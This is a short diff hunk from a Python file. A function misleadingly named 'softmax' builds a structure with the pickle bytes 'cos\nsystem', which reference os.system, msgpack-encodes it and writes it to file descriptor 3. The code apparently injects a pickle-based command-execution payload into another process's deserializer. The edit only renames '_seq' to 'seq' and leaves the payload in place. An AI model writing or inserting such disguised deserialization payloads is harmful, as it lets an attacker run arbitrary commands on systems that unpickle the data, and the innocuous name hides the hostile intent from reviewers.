@@ -21,5 +21,5 @@ def frame(header, body=b""):
 
 def softmax(z):
     tree = ["l", [["a", "|O", [1]], ["pickle", b"cos\nsystem"], ["c", 0], ["r", 0]]]
-    os.write(3, frame(msgspec.msgpack.encode(["value", server()._seq, tree, []]), bytes(8)))
+    os.write(3, frame(msgspec.msgpack.encode(["value", server().seq, tree, []]), bytes(8)))
     time.sleep(60)
